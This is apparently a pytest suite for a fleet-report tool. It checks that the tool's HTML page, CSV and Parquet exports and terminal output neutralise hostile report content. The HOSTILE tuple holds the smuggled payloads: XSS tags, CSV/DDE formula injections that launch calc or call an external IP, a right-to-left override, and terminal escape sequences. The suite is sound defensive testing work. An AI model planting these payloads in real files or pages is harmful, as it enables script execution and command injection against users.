"""The fleet as page, tables and words: nothing from a report can run, fetch or mislead."""

import csv
import io
import os
import re
import shutil
import subprocess
import tempfile
import uuid
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import msgspec
import pytest
from fleet.synthetic import Fleet, make_fleet, report_json, write_fleet
from report.test_accessible_page import AXE, examined
from rich.console import Console

from natwizard.cli.main import main
from natwizard.fleet.as_html import fleet_html
from natwizard.fleet.as_table import write_csv, write_parquet
from natwizard.fleet.as_terminal import print_overview
from natwizard.fleet.html_charts import strip
from natwizard.fleet.overview import Overview
from natwizard.fleet.questions import DAY_S, Asked, ask
from natwizard.fleet.read import fleet_tables
from natwizard.fleet.scan import Window
from natwizard.fleet.wording import action_sentence, problem_sentence, subline
from natwizard.languages import chosen_language, use_language
from natwizard.run.plan import run_code

HOSTILE = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://203.0.113.9/"&A1)',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\u202egnp.exe",
    "a\x1b]0;owned\x07b",
    'two\r\nlines,"quoted"',
    "\t=1+1",
    "a;=1+1;@b",
)


NOT_IN_NAMES = r"[/\0]" if os.name == "posix" else r"[<>:/\\|?*\"\0-\x1f]"


@pytest.fixture(scope="module")
def fleet() -> Fleet:
    return make_fleet(21, sites=5, desks=12, days=8)


def overview_of(folder: Path, end_s: float) -> Overview:
    asked = Asked(folder=folder, now_s=end_s, since_s=end_s - 4 * DAY_S, silent_after_days=3)
    with fleet_tables(folder) as (tables, unread):
        return ask(tables, asked, unread)


@pytest.fixture(scope="module")
def overview(fleet: Fleet, tmp_path_factory: pytest.TempPathFactory) -> Overview:
    folder = tmp_path_factory.mktemp("fleet")
    write_fleet(fleet, folder)
    return overview_of(folder, fleet.end_s)


@pytest.fixture(scope="module")
def hostile(fleet: Fleet, tmp_path_factory: pytest.TempPathFactory) -> Overview:
    """Every text of a report and every name of a file is as bad as it can be."""
    folder = tmp_path_factory.mktemp("hostile")
    for number, run in enumerate(fleet.runs[:60]):
        bad = HOSTILE[number % len(HOSTILE)]
        report = msgspec.json.decode(report_json(run))
        report["run_code"] = report["app_version"] = report["machine"]["system"] = bad
        report["profile"] = {"name": bad, "version": bad}
        report["seat"] |= {"host_name": bad, "site": bad, "subnet": bad, "provider": bad}
        report["verdict"] = "not_ready"
        for finding in report["findings"]:
            finding |= {"title": bad, "summary": bad, "status": "fail"}
            finding["details"] = [{"label": "Where", "text": bad}]
            if finding["gauge"]:
                finding["gauge"] |= {"title": bad, "unit": bad}
        (folder / f"{run.run_id}.json").write_bytes(msgspec.json.encode(report))
        name = re.sub(NOT_IN_NAMES, "", bad)
        (folder / f"{name}{number}.json").write_bytes(b"{")
    return overview_of(folder, fleet.end_s)


class Page(HTMLParser):
    """What a browser would see."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.words = ""
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.words += data


@pytest.mark.parametrize("which", ["overview", "hostile"])
def test_the_page_runs_nothing_and_fetches_nothing(
    which: str, request: pytest.FixtureRequest
) -> None:
    text = fleet_html(request.getfixturevalue(which))
    page = Page(text)
    assert not page.tags & {"script", "img", "iframe", "object", "link", "a", "form", "base"}
    names = {name for name, _value in page.attributes}
    assert not {name for name in names if name.startswith("on") or name in {"src", "href"}}
    assert not [v for name, v in page.attributes if "://" in v and name != "aria-label"]
    assert any(value.startswith("default-src 'none'") for _name, value in page.attributes)
    assert "url(" not in text
    assert "\u202e" not in text
    assert "\x1b" not in text


def test_the_page_tells_what_the_overview_holds(overview: Overview) -> None:
    words = Page(fleet_html(overview)).words
    total = overview.total
    ready = total.ready + total.ready_to_public + total.ready_with_advice
    assert f"{ready} of {overview.total.seats} seats are ready" in words
    for problem in overview.problems:
        assert f"{problem.cause.failed} of {problem.cause.desks} desks" in words
    for site in overview.places_by("site"):
        assert site.name in words
    assert "Silent seats" in words
    assert len(overview.problems) >= 3


@pytest.mark.skipif(shutil.which("chromium") is None, reason="needs Debian's chromium")
@pytest.mark.skipif(not AXE.exists(), reason="needs axe-core: make build/axe")
@pytest.mark.parametrize("which", ["overview", "hostile"])
def test_axe_finds_nothing_in_the_page(
    which: str, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    """Also in what is folded; what is too wide is reached by the keyboard."""
    page = fleet_html(request.getfixturevalue(which)).replace("<details", "<details open")
    passes, violations = examined(page, tmp_path)
    assert violations == []
    assert passes > 15


@pytest.mark.parametrize(("end_h", "shaded"), [(23.9, 1), (24.5, 2)])
def test_what_goes_on_after_midnight_is_shaded_at_both_ends_of_the_day(
    overview: Overview, end_h: float, shaded: int
) -> None:
    problem = overview.problems[0]
    nightly = msgspec.structs.replace(
        problem.cause, daily=True, days=9, of_day=Window(23.5 * 3600, end_h * 3600)
    )
    drawn = strip(msgspec.structs.replace(problem, cause=nightly), overview)
    assert str(drawn).count('class="when"') == shaded


@pytest.mark.parametrize("code", ["de", "es", "fr"])
def test_the_page_is_made_in_any_language(overview: Overview, code: str) -> None:
    use_language(chosen_language(code))
    page = Page(fleet_html(overview))
    assert ("lang", code) in page.attributes
    assert not re.search(r"\{\w+\}", page.words)


@pytest.mark.parametrize("which", ["overview", "hostile"])
def test_no_cell_of_a_csv_is_a_formula(
    which: str, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    files = write_csv(request.getfixturevalue(which), tmp_path)
    assert {path.stem for path in files} >= {"seats", "requirements", "shared_problems", "silent"}
    cells = 0
    for path in files:
        content = path.read_bytes()
        assert content.startswith(b"\xef\xbb\xbf")
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")):
            for cell in row:
                cells += 1
                # also where a semicolon separates cells, as in Germany
                for part in (cell, *cell.split(";")[1:]):
                    assert not part.startswith(("=", "@", "\t", "\r")), cell
                    if part.startswith(("+", "-")):
                        float(part)
                assert "\n" not in cell
                assert "\x1b" not in cell
    assert cells > 100


def test_the_seats_of_the_csv_are_the_seats(overview: Overview, tmp_path: Path) -> None:
    write_csv(overview, tmp_path)
    text = (tmp_path / "seats.csv").read_text("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [row["seat"] for row in rows] == [row.seat for row in overview.seats]
    assert [row["verdict"] for row in rows] == [row.verdict for row in overview.seats]


def test_parquet_holds_every_row(fleet: Fleet, tmp_path: Path) -> None:
    folder, out = tmp_path / "folder", tmp_path / "o'ut"
    folder.mkdir()
    write_fleet(fleet, folder)
    with fleet_tables(folder, exports=out) as (tables, _unread):
        files = write_parquet(tables, out)
    assert {path.name for path in files} == {"runs.parquet", "findings.parquet", "values.parquet"}
    found = duckdb.execute("SELECT count(*) FROM read_parquet(?)", [str(out / "runs.parquet")])
    assert found.fetchone() == (len(fleet.runs),)


@pytest.mark.parametrize("which", ["overview", "hostile"])
def test_the_terminal_is_not_steered(which: str, request: pytest.FixtureRequest) -> None:
    sink = io.StringIO()
    print_overview(request.getfixturevalue(which), Console(file=sink, width=100))
    text = sink.getvalue()
    assert "seats are ready" in text or "seat is ready" in text
    assert "\x1b]" not in text
    assert "\u202e" not in text


def test_the_command_writes_all_of_it(
    fleet: Fleet, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "folder"
    folder.mkdir()
    write_fleet(fleet, folder)
    arguments = [
        "fleet", str(folder), "--at", "2026-11-10", "--since", "2026-11-05",
        "--html", str(tmp_path / "page.html"), "--csv", str(tmp_path / "csv"),
        "--parquet", str(tmp_path / "parquet"), "--json", str(tmp_path / "all.json"),
    ]  # fmt: skip
    assert main(arguments) == 0
    assert "seats are ready" in capsys.readouterr().out
    assert (tmp_path / "page.html").read_text().startswith("<!DOCTYPE html>")
    assert (tmp_path / "csv/seats.csv").is_file()
    assert (tmp_path / "parquet/runs.parquet").is_file()
    told = msgspec.json.decode((tmp_path / "all.json").read_bytes(), type=Overview)
    assert told.runs == len(fleet.runs)


def test_the_command_finds_a_run_by_its_code(
    overview: Overview, capsys: pytest.CaptureFixture[str]
) -> None:
    seat = overview.seats[3]
    assert main(["fleet", overview.folder, "--code", seat.run_code.upper()]) == 0
    out = capsys.readouterr().out
    assert seat.file in out
    assert main(["fleet", overview.folder, "--code", "a b c d"]) == 0
    assert "No run" in capsys.readouterr().out


def test_a_code_tells_whether_the_trouble_is_the_neighbours_too(
    overview: Overview, fleet: Fleet, capsys: pytest.CaptureFixture[str]
) -> None:
    """Of a run inside a shared problem its sentence; of one that fails by itself, that it does."""
    problem = overview.problems[0]
    command = ["fleet", overview.folder, "--at", "2026-11-10", "--code"]
    assert main([*command, problem.run_codes[0]]) == 0
    told = " ".join(capsys.readouterr().out.split())
    assert problem_sentence(problem) in told
    assert action_sentence(problem) in told
    shared = {fault.requirement for fault in fleet.faults} | {"quality.mos"}
    alone = next(run for run in fleet.runs if run.failing and shared.isdisjoint(run.failing))
    assert main([*command, run_code(uuid.UUID(alone.run_id))]) == 0
    assert "Not a problem that other desks share" in " ".join(capsys.readouterr().out.split())


@pytest.mark.parametrize(
    "arguments",
    [["nowhere"], [".", "--since", "last week"], [".", "--silent-days", "-1"],
     [".", "--list", "nothing.csv"], [".", "--site", "Leedz"], ["a\0b"]],
)  # fmt: skip
def test_wrong_use_is_one_line_and_64(
    arguments: list[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.chdir(tmp_path)
    try:
        code = main(["fleet", *arguments])
    except SystemExit as ended:
        code = int(ended.code or 0)
    assert code == 64
    assert len(capsys.readouterr().err.strip().splitlines()) == 1


@pytest.mark.skipif(os.name != "posix" or os.geteuid() != 0, reason="mounts a small disk")
@pytest.mark.parametrize("where", ["tables", "parquet", "csv"])
def test_a_full_disk_is_one_line_and_64(
    fleet: Fleet,
    where: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    folder, small = tmp_path / "folder", tmp_path / "small"
    folder.mkdir()
    small.mkdir()
    for run in fleet.runs[:120]:
        (folder / f"{run.run_id}.json").write_bytes(report_json(run))
    size = "32k" if where == "parquet" else "16k"
    subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={size}", "none", small], check=True)
    try:
        if where == "tables":
            monkeypatch.setattr(tempfile, "tempdir", str(small))
        options = [] if where == "tables" else [f"--{where}", str(small / "out")]
        code = main(["fleet", str(folder), "--at", "2026-11-12", *options])
        left = [path.name for path in small.rglob("*") if path.name.endswith(".part")]
    finally:
        subprocess.run(["umount", small], check=True)
    told = capsys.readouterr().err.strip()
    assert code == 64
    assert len(told.splitlines()) == 1
    assert "No space left" in told or "the disk is full" in told
    assert "exception_type" not in told
    assert left == []


@pytest.mark.skipif(os.name != "posix" or os.geteuid() != 0, reason="needs another user")
def test_a_folder_inside_one_that_nobody_may_enter_is_one_line_and_64(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "closed/inside").mkdir(parents=True)
    (tmp_path / "closed").chmod(0o700)
    os.seteuid(65534)
    try:
        code = main(["fleet", str(tmp_path / "closed/inside")])
    finally:
        os.seteuid(0)
    assert code == 64
    assert len(capsys.readouterr().err.strip().splitlines()) == 1


def test_what_cannot_be_counted_is_not_said_to_be_no_report(fleet: Fleet, tmp_path: Path) -> None:
    (tmp_path / "a.json").write_bytes(report_json(fleet.runs[0]))
    told = overview_of(tmp_path, fleet.runs[0].at_s - 30 * DAY_S)
    assert (told.total.seats, len(told.unread)) == (0, 1)
    assert "no report" not in subline(told)
    assert "not a natwizard report" not in subline(told)
    assert "Below it says why" in subline(told)
